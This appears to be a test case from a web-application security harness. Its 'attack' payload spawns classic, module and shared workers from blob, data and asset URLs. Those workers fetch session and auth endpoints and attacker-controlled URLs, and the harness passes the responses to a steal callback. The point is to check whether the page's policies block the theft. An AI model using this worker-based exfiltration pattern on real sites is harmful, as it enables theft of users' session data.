import { attack } from "../attack.js";

export default attack({
  name: "sends requests from its own workers and nested workers",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const code = `
      const urls = ${JSON.stringify([
        `${it.apiUrl}me`,
        `${it.apiUrl}redirect?${new URLSearchParams({ to: `${it.attackerUrl}/from-a-worker` })}`,
        `${it.attackerUrl}/from-a-worker`,
        `${it.siblingUrl}/from-a-worker`,
        `${it.appUrl}auth/session`,
        `${it.appUrl}auth/keep`,
      ])};
      const channel = new BroadcastChannel("attack");
      const look = async () => {
        for (const url of urls) {
          const response = await fetch(url, url.endsWith("keep") ? { signal: AbortSignal.timeout(500) } : {}).catch(() => undefined);
          if (response) channel.postMessage([response.url, [...response.headers], await response.text().catch(String)]);
        }
      };
      look();
      if (!self.name && self.Worker) new Worker(location.href, { name: "nested" });`;
    new BroadcastChannel("attack").onmessage = ({ data }) => it.steal(data);
    const blob = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
    for (const url of [blob, `data:text/javascript,${encodeURIComponent(code)}`, "/assets/dependency.js"]) {
      for (const type of ["classic", "module"] as const) {
        for (const kind of ["Worker", "SharedWorker"] as const) {
          try {
            new window[kind](it.scriptUrl(url), { type });
          } catch {
            // The page's policy refuses the worker.
          }
        }
      }
    }
    await it.pause(1_500);
  },
});
